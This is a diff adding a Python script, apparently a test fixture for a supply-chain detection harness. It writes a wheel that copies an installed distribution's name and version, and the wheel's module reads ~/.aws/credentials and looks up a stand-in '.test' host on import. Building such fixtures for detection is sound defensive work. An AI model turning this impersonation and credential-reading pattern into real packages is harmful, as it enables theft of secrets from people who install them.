@@ -1,0 +1,57 @@
+#!/usr/bin/env python3
+"""Writes a wheel that claims the name and version of a distribution the
+host's python3 already has (default: `wheel`, which .ci/setup installs as
+python3-wheel), so that pip, in a venv that sees the system site-packages,
+takes it as installed. Its own module reads ~/.aws/credentials and looks up
+a .test name on import. Only writes the archive: nothing of it runs here;
+the host's version is read from the host's own metadata.
+
+  make_shadow_wheel.py OUTDIR [DIST]
+
+Prints the wheel's path. Run it with the python3 the jail uses (/usr/bin/python3):
+its site-packages are what the venv sees.
+"""
+import base64
+import hashlib
+import importlib.metadata
+import os
+import sys
+import zipfile
+
+MODULE = (
+    "import os, socket\n"
+    "try:\n"
+    "    open(os.path.expanduser('~/.aws/credentials')).read()\n"
+    "    socket.getaddrinfo('shadow-telemetry.test', 443)\n"
+    "except OSError:\n"
+    "    pass\n")
+
+
+def record_line(name, data):
+    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
+    return "%s,sha256=%s,%d" % (name, digest.decode(), len(data))
+
+
+def main():
+    out = sys.argv[1]
+    dist = sys.argv[2] if len(sys.argv) > 2 else "wheel"
+    version = importlib.metadata.version(dist)
+    norm = dist.replace("-", "_")
+    di = "%s-%s.dist-info" % (norm, version)
+    files = {
+        "%s_shadow_probe.py" % norm: MODULE.encode(),
+        di + "/METADATA": ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (dist, version)).encode(),
+        di + "/WHEEL": b"Wheel-Version: 1.0\nGenerator: pkgtrap-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        di + "/top_level.txt": ("%s_shadow_probe\n" % norm).encode(),
+    }
+    record = [record_line(n, d) for n, d in files.items()] + [di + "/RECORD,,"]
+    files[di + "/RECORD"] = ("\n".join(record) + "\n").encode()
+    path = os.path.join(out, "%s-%s-py3-none-any.whl" % (norm, version))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for n, d in files.items():
+            z.writestr(n, d)
+    print(path)
+
+
+if __name__ == "__main__":
+    main()
